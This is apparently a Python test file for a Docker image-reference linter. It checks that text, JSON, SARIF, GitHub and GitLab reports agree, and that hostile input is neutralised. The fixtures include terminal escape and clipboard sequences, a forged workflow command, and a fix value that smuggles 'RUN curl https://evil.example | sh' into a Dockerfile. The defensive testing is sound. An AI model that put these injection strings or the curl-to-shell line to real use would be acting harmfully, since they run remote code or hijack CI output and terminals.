"""Every output format rendered from one hand-built Report, and parsed back."""

from __future__ import annotations

import json
import re
from pathlib import Path
from urllib.parse import unquote

import pytest

from preflight.engine import Rule
from preflight.model import Finding, Fix, Level, Location, Report, Summary
from preflight.report import FORMATS, LEVELS, Context, render
from preflight.report.github import escape_data, escape_property, step_summary

SPACED = "bad dir/ünï Dockerfile"  # spaces and non-ASCII
COMPOSE = "compose.yaml"
API = "services/api/Dockerfile"

RULES = [
    Rule("PF001", "unreadable-file", "The file cannot be read or parsed.", Level.ERROR, None, tags=("input",)),
    Rule("PF102", "latest-tag", "The image uses the latest tag.", Level.WARNING, None, tags=("reproducibility",)),
    Rule("PF103", "unpinned-digest", "The image is not pinned to a digest.", Level.NOTE, None),
    Rule("PF104", "secret-in-ref", "A credential is written in the reference.", Level.OFF, None, tags=("security",)),
    Rule("PF201", "tag-not-found", "The tag does not exist.", Level.ERROR, None, True, ("registry",)),
    Rule("PF202", "digest-not-found", "The digest does not exist.", Level.WARNING, None, True, ("registry",)),
]

PF201_MESSAGE = 'tag "3.12-slimm" not found in docker.io/library/python; did you mean "3.12-slim"?'
PF202_MESSAGE = "digest sha256:abc not found: 100% sure, a,b"
FINDINGS = (
    Finding("PF001", Level.ERROR, "cannot read the file: invalid UTF-8", Location(SPACED, 1, 1)),
    Finding(
        "PF102",
        Level.WARNING,
        'image "python:latest" uses the latest tag',
        Location(SPACED, 3, 6, 3, 19),
        "python:latest",
        fixes=(Fix("pin a version", Location(SPACED, 3, 13, 3, 19), "3.12"),),
    ),
    Finding(
        "PF201",
        Level.ERROR,
        PF201_MESSAGE,
        Location(COMPOSE, 4, 12, 4, 30),
        "python:3.12-slimm",
        ("3.12-slim", "3.11-slim"),
        (Fix('use "3.12-slim"', Location(COMPOSE, 4, 19, 4, 30), "3.12-slim"),),
    ),
    Finding("PF202", Level.WARNING, PF202_MESSAGE, Location(COMPOSE, 9, 12), "redis@sha256:abc", ("sha256:def",)),
    Finding("PF103", Level.NOTE, 'image "redis:7" is not pinned to a digest', Location(API, 2, 6), "redis:7"),
)
SUMMARY = Summary(files=12, images=5, references_checked=4, requests=9, cache_hits=2, offline=False)
SUMMARY_USAGE = "4 of 4 references checked (2 from cache); 9 HTTP requests answered"


def make_report(root: Path, findings: tuple[Finding, ...] = FINDINGS, summary: Summary = SUMMARY) -> Report:
    return Report(findings, summary, str(root))


def test_json_shape_is_exact(tmp_path: Path) -> None:
    out = render(make_report(tmp_path), "json", rules=RULES, cwd=tmp_path)
    assert json.loads(out) == {
        "findings": [
            {
                "rule": "PF001",
                "level": "error",
                "message": "cannot read the file: invalid UTF-8",
                "path": SPACED,
                "line": 1,
                "column": 1,
                "image": None,
            },
            {
                "rule": "PF102",
                "level": "warning",
                "message": 'image "python:latest" uses the latest tag',
                "path": SPACED,
                "line": 3,
                "column": 6,
                "image": "python:latest",
                "fixes": [
                    {
                        "description": "pin a version",
                        "path": SPACED,
                        "line": 3,
                        "column": 13,
                        "end_line": 3,
                        "end_column": 19,
                        "replacement": "3.12",
                    }
                ],
            },
            {
                "rule": "PF201",
                "level": "error",
                "message": PF201_MESSAGE,
                "path": COMPOSE,
                "line": 4,
                "column": 12,
                "image": "python:3.12-slimm",
                "suggestions": ["3.12-slim", "3.11-slim"],
                "fixes": [
                    {
                        "description": 'use "3.12-slim"',
                        "path": COMPOSE,
                        "line": 4,
                        "column": 19,
                        "end_line": 4,
                        "end_column": 30,
                        "replacement": "3.12-slim",
                    }
                ],
            },
            {
                "rule": "PF202",
                "level": "warning",
                "message": PF202_MESSAGE,
                "path": COMPOSE,
                "line": 9,
                "column": 12,
                "image": "redis@sha256:abc",
                "suggestions": ["sha256:def"],
            },
            {
                "rule": "PF103",
                "level": "note",
                "message": 'image "redis:7" is not pinned to a digest',
                "path": API,
                "line": 2,
                "column": 6,
                "image": "redis:7",
            },
        ],
        "summary": {
            "files": 12,
            "images": 5,
            "errors": 2,
            "warnings": 2,
            "notes": 1,
            "references_checked": 4,
            "requests": 9,
            "cache_hits": 2,
            "dockerhub_remaining": None,
            "not_checked": 0,
            "offline": False,
        },
    }
    assert SPACED in out  # UTF-8 text, not \u escapes


def test_json_empty_report_and_dockerhub_remaining(tmp_path: Path) -> None:
    summary = Summary(files=3, images=0, dockerhub_remaining=87, offline=True)
    data = json.loads(render(make_report(tmp_path, (), summary), "json", rules=RULES, cwd=tmp_path))
    assert data["findings"] == []
    assert data["summary"]["dockerhub_remaining"] == 87
    assert data["summary"]["offline"] is True
    assert data["summary"]["errors"] == data["summary"]["warnings"] == data["summary"]["notes"] == 0


def test_text_lines_and_summary(tmp_path: Path) -> None:
    out = render(make_report(tmp_path), "text", rules=RULES, cwd=tmp_path)
    assert out.splitlines() == [
        f"{SPACED}:1:1: PF001 error: cannot read the file: invalid UTF-8",
        f'{SPACED}:3:6: PF102 warning: image "python:latest" uses the latest tag',
        f"{COMPOSE}:4:12: PF201 error: {PF201_MESSAGE}",
        f"{COMPOSE}:9:12: PF202 warning: {PF202_MESSAGE}",
        f'{API}:2:6: PF103 note: image "redis:7" is not pinned to a digest',
        "",
        "2 errors, 2 warnings, 1 note in 12 files (5 images)",
        SUMMARY_USAGE,
    ]
    assert "\x1b" not in out


def test_text_without_findings(tmp_path: Path) -> None:
    one = render(make_report(tmp_path, (), Summary(files=1, images=1)), "text", rules=RULES, cwd=tmp_path)
    assert one == "No problems found in 1 file (1 image).\n"
    many = Summary(files=4, images=0, references_checked=1, requests=3, dockerhub_remaining=87, offline=False)
    out = render(make_report(tmp_path, (), many), "text", rules=RULES, cwd=tmp_path)
    assert out.splitlines() == [
        "No problems found in 4 files (0 images).",
        "1 of 1 reference checked; 3 HTTP requests answered; Docker Hub pulls remaining: 87",
    ]


def test_text_color_groups_by_file(tmp_path: Path) -> None:
    out = render(make_report(tmp_path), "text", rules=RULES, color=True, cwd=tmp_path)
    assert "\x1b[" in out
    for path in (SPACED, COMPOSE, API):
        assert out.count(path) == 1  # one header per file
    assert out.index(SPACED) < out.index("PF102") < out.index(COMPOSE) < out.index("PF201") < out.index(API)
    assert out.splitlines()[-2:] == ["2 errors, 2 warnings, 1 note in 12 files (5 images)", SUMMARY_USAGE]


def test_text_neutralises_control_characters(tmp_path: Path) -> None:
    evil = Finding("PF102", Level.WARNING, "bad\nfake.yaml:1:1: PF999 error: \x1b[31mred", Location("a\x1bb", 1, 1))
    for color in (False, True):
        out = render(make_report(tmp_path, (evil,)), "text", rules=RULES, color=color, cwd=tmp_path)
        assert "\x1b[31m" not in out and "a\x1bb" not in out
        assert "\\x1b[31mred" in out
        assert not any(line.startswith("fake.yaml") for line in out.splitlines())


# ------------------------------------------------------------------ parse every format back

Row = tuple[str, str, int, str, str]  # rule, repo path, line, level, message
_REPORTED = (Level.ERROR, Level.WARNING, Level.NOTE)
_BY_NAME = {
    fmt: {getattr(LEVELS[lvl], fmt): lvl.value for lvl in _REPORTED} for fmt in ("text", "sarif", "github", "gitlab")
}
_TEXT_LINE = re.compile(r"^(?P<path>.+):(?P<line>\d+):(?P<col>\d+): (?P<rule>PF\d{3}) (?P<level>\w+): (?P<msg>.*)$")
_COMMAND = re.compile(r"^::(?P<level>error|warning|notice) (?P<props>[^:]*)::(?P<msg>.*)$")


def _unescape(text: str) -> str:
    for code, char in (("%2C", ","), ("%3A", ":"), ("%0A", "\n"), ("%0D", "\r"), ("%25", "%")):
        text = text.replace(code, char)
    return text


def parse_text(out: str) -> list[Row]:
    rows = []
    for line in out.splitlines():
        if m := _TEXT_LINE.match(line):
            rows.append((m["rule"], m["path"], int(m["line"]), _BY_NAME["text"][m["level"]], m["msg"]))
    return rows


def parse_json(out: str) -> list[Row]:
    return [(f["rule"], f["path"], f["line"], f["level"], f["message"]) for f in json.loads(out)["findings"]]


def parse_sarif(out: str) -> list[Row]:
    rows = []
    for r in json.loads(out)["runs"][0]["results"]:
        loc = r["locations"][0]["physicalLocation"]
        path, line = unquote(loc["artifactLocation"]["uri"]), loc["region"]["startLine"]
        rows.append((r["ruleId"], path, line, _BY_NAME["sarif"][r["level"]], r["message"]["text"]))
    return rows


def parse_github(out: str) -> list[Row]:
    rows = []
    for line in out.splitlines():
        if m := _COMMAND.match(line):
            props = dict(p.split("=", 1) for p in m["props"].split(","))
            props = {k: _unescape(v) for k, v in props.items()}
            rule = props["title"].split()[0]
            level = _BY_NAME["github"][m["level"]]
            rows.append((rule, props["file"], int(props["line"]), level, _unescape(m["msg"])))
    return rows


def parse_gitlab(out: str) -> list[Row]:
    rows = []
    for issue in json.loads(out):
        message = issue["description"].removeprefix(f"{issue['check_name']}: ")
        level = _BY_NAME["gitlab"][issue["severity"]]
        where = issue["location"]
        rows.append((issue["check_name"], where["path"], where["lines"]["begin"], level, message))
    return rows


PARSERS = {"text": parse_text, "json": parse_json, "sarif": parse_sarif, "github": parse_github, "gitlab": parse_gitlab}


def test_all_formats_say_the_same(tmp_path: Path) -> None:
    report = make_report(tmp_path)
    expected = sorted((f.rule, f.location.path, f.location.line, f.level.value, f.message) for f in FINDINGS)
    assert set(PARSERS) == set(FORMATS)
    for fmt in FORMATS:
        rows = PARSERS[fmt](render(report, fmt, rules=RULES, cwd=tmp_path))
        assert sorted(rows) == expected, fmt


def test_repo_relative_paths_from_a_subdirectory(tmp_path: Path) -> None:
    cwd = tmp_path / "deploy"
    cwd.mkdir()
    report = make_report(tmp_path)
    for fmt in ("sarif", "github", "gitlab"):
        paths = {row[1] for row in PARSERS[fmt](render(report, fmt, rules=RULES, cwd=cwd))}
        assert paths == {f"deploy/{SPACED}", f"deploy/{COMPOSE}", f"deploy/{API}"}, fmt
    for fmt in ("text", "json"):  # display paths stay relative to the working directory
        paths = {row[1] for row in PARSERS[fmt](render(report, fmt, rules=RULES, cwd=cwd))}
        assert paths == {SPACED, COMPOSE, API}, fmt


def test_repo_path_handles_dotdot_relative_root_and_symlinks(tmp_path: Path) -> None:
    (tmp_path / "repo" / "a").mkdir(parents=True)
    (tmp_path / "repo" / "a" / "Dockerfile").write_text("FROM x\n")
    (tmp_path / "link").symlink_to(tmp_path / "repo")
    ctx = Context.make(Report((), Summary(), ".."), RULES, tmp_path / "repo" / "a")
    assert ctx.repo_path("Dockerfile") == "a/Dockerfile"
    assert ctx.repo_path("../a/./Dockerfile") == "a/Dockerfile"
    linked = Context.make(Report((), Summary(), str(tmp_path / "repo")), RULES, tmp_path / "link" / "a")
    assert linked.repo_path("Dockerfile") == "a/Dockerfile"


def test_unknown_format_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown format 'xml'"):
        render(make_report(tmp_path), "xml", rules=RULES, cwd=tmp_path)


def test_levels_map_the_same_everywhere(tmp_path: Path) -> None:
    assert {lvl: (n.sarif, n.github, n.gitlab) for lvl, n in LEVELS.items() if lvl is not Level.OFF} == {
        Level.ERROR: ("error", "error", "major"),
        Level.WARNING: ("warning", "warning", "minor"),
        Level.NOTE: ("note", "notice", "info"),
    }


# ------------------------------------------------------------------ github


@pytest.mark.parametrize(
    ("raw", "data", "prop"),
    [
        ("plain text", "plain text", "plain text"),
        ("100%", "100%25", "100%25"),
        ("a\r\nb", "a%0D%0Ab", "a%0D%0Ab"),
        ("%0A literal", "%250A literal", "%250A literal"),  # % first: no double decoding
        ("k: v, w", "k: v, w", "k%3A v%2C w"),
        ("50%:,\n", "50%25:,%0A", "50%25%3A%2C%0A"),
    ],
)
def test_github_escaping(raw: str, data: str, prop: str) -> None:
    assert escape_data(raw) == data
    assert escape_property(raw) == prop
    assert _unescape(prop) == raw


def test_github_commands(tmp_path: Path) -> None:
    multi = Finding("PF103", Level.NOTE, "spans\nlines", Location("a,b:c/Dockerfile", 2, 1, 4, 3))
    report = make_report(tmp_path, FINDINGS + (multi,))
    lines = render(report, "github", rules=RULES, cwd=tmp_path).splitlines()
    commands = [line for line in lines if line.startswith("::")]
    assert [c.split(" ", 1)[0] for c in commands] == ["::error"] * 2 + ["::warning"] * 2 + ["::notice"] * 2
    assert commands[0] == f"::error file={SPACED},line=1,col=1,title=PF001 unreadable-file::{FINDINGS[0].message}"
    assert commands[1] == (
        f"::error file={COMPOSE},line=4,col=12,endColumn=30,title=PF201 tag-not-found::{PF201_MESSAGE}"
    )
    assert commands[3] == (
        f"::warning file={COMPOSE},line=9,col=12,title=PF202 digest-not-found::"
        "digest sha256:abc not found: 100%25 sure, a,b"
    )
    assert (
        # a line break in a message (only ever quoted from a file or a registry) is shown, not obeyed
        commands[5] == "::notice file=a%2Cb%3Ac/Dockerfile,line=2,endLine=4,title=PF103 unpinned-digest::spans\\nlines"
    )
    assert lines[-2:] == ["2 errors, 2 warnings, 2 notes in 12 files (5 images)", SUMMARY_USAGE]


def test_github_step_summary_lists_everything(tmp_path: Path) -> None:
    piped = Finding("PF102", Level.WARNING, "a | b", Location("Dockerfile", 1, 6))
    ctx = Context.make(make_report(tmp_path, FINDINGS + (piped,)), RULES, tmp_path)
    table = [line for line in step_summary(ctx).splitlines() if line.startswith("| ") and "PF" in line]
    assert len(table) == len(FINDINGS) + 1
    assert table[0].startswith("| error | PF001 |")
    assert "a \\| b" in step_summary(ctx)


# ------------------------------------------------------------------ gitlab


def test_gitlab_report(tmp_path: Path) -> None:
    out = render(make_report(tmp_path), "gitlab", rules=RULES, cwd=tmp_path)
    assert not out.startswith("\ufeff") and not out.encode("utf-8").startswith(b"\xef\xbb\xbf")
    issues = json.loads(out)
    assert isinstance(issues, list) and len(issues) == len(FINDINGS)
    assert issues[2] == {
        "description": f"PF201: {PF201_MESSAGE}",
        "check_name": "PF201",
        "fingerprint": issues[2]["fingerprint"],
        "severity": "major",
        "location": {"path": COMPOSE, "lines": {"begin": 4}},
    }
    assert all(re.fullmatch(r"[0-9a-f]{64}", i["fingerprint"]) for i in issues)
    assert len({i["fingerprint"] for i in issues}) == len(issues)


def test_gitlab_fingerprints_unique_and_line_free(tmp_path: Path) -> None:
    def twice(first: int, second: int) -> list[str]:
        loc = [Location("Dockerfile", n, 6) for n in (first, second)]
        same = [Finding("PF102", Level.WARNING, "latest", where, "x:latest") for where in loc]
        out = render(make_report(tmp_path, tuple(same)), "gitlab", rules=RULES, cwd=tmp_path)
        return [i["fingerprint"] for i in json.loads(out)]

    a = twice(1, 5)
    assert len(set(a)) == 2  # identical findings still get distinct fingerprints
    assert twice(3, 9) == a  # lines moved: same fingerprints


def test_gitlab_security_rule_errors_are_critical(tmp_path: Path) -> None:
    secret = Finding("PF104", Level.ERROR, "password in reference", Location("Dockerfile", 1, 6))
    warn = Finding("PF104", Level.WARNING, "password in reference", Location("Dockerfile", 2, 6))
    out = json.loads(render(make_report(tmp_path, (secret, warn)), "gitlab", rules=RULES, cwd=tmp_path))
    assert [i["severity"] for i in out] == ["critical", "minor"]


# ----------------------------------------------------------------- hostile text in every format (issue 8, item 7)

HOSTILE_TEXT = (
    "x\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b]52;c;ZXZpbA==\x07 \x1b[31m\x9b0m \u202eabc \u2066i\u2069 "
    "z\u200bw <img src=https://evil.example/x.png> [a](https://evil.example) `tick` | pipe\r\n::error::forged"
)


def _hostile_report(tmp_path: Path) -> Report:
    path = "odd`|\x1b[1m\u202e.Dockerfile"
    fix = Fix("use tag", Location(path, 1, 13, 1, 16), "1.0\nRUN curl https://evil.example | sh\n#")
    finding = Finding(
        "PF201", Level.ERROR, HOSTILE_TEXT, Location(path, 1, 6, 1, 20), "alpine:x", ("alpine:1",), (fix,)
    )
    return make_report(tmp_path, (finding,))


@pytest.mark.parametrize("fmt", [*FORMATS, "github-summary"])
def test_no_format_carries_a_control_or_invisible_character(tmp_path: Path, fmt: str) -> None:
    out = render(_hostile_report(tmp_path), fmt, rules=RULES, cwd=tmp_path)
    assert [c for c in out if not c.isprintable() and c != "\n"] == []


def test_json_formats_keep_the_data_but_escape_it(tmp_path: Path) -> None:
    report = _hostile_report(tmp_path)
    data = json.loads(render(report, "json", rules=RULES, cwd=tmp_path))
    assert data["findings"][0]["path"] == report.findings[0].location.path  # the path is exact once decoded
    assert "\\x1b]8;;" in data["findings"][0]["message"]  # the message shows the escape as text
    assert "fixes" not in data["findings"][0]  # a fix inserting a line break is no fix


def test_sarif_never_inserts_a_line_break(tmp_path: Path) -> None:
    sarif = json.loads(render(_hostile_report(tmp_path), "sarif", rules=RULES, cwd=tmp_path))
    assert "fixes" not in sarif["runs"][0]["results"][0]


def test_step_summary_renders_no_html_or_link(tmp_path: Path) -> None:
    out = render(_hostile_report(tmp_path), "github-summary", rules=RULES, cwd=tmp_path)
    row = next(line for line in out.splitlines() if line.startswith("| error"))
    cells = re.split(r"(?<!\\)\|", row)[1:-1]
    assert len(cells) == 4, cells  # the message's pipe did not open a fifth column
    for cell in cells[2:]:
        cell = cell.strip()
        fence = re.match(r"`+", cell)
        assert fence is not None and cell.endswith(fence.group(0)), cell  # one code span: nothing in it renders
        assert fence.group(0) not in cell[len(fence.group(0)) : -len(fence.group(0))]


def test_github_command_escapes_properties_and_data(tmp_path: Path) -> None:
    out = render(_hostile_report(tmp_path), "github", rules=RULES, cwd=tmp_path)
    command = out.splitlines()[0]
    assert command.startswith("::error file=odd`|\\x1b[1m\\u202e.Dockerfile,line=1,")
    assert "\\r\\n::error::forged" in command  # the line break is shown: no second command starts
    assert len([line for line in out.splitlines() if line.startswith("::")]) == 1
